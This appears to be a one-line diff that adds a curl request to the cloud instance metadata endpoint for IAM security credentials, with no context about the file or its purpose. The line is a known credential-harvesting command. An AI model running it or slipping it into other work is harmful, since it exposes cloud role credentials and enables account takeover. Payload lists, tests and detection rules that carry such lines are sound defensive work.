@@ -1,0 +1,1 @@
+curl http://169.254.169.254/latest/meta-data/iam/security-credentials/
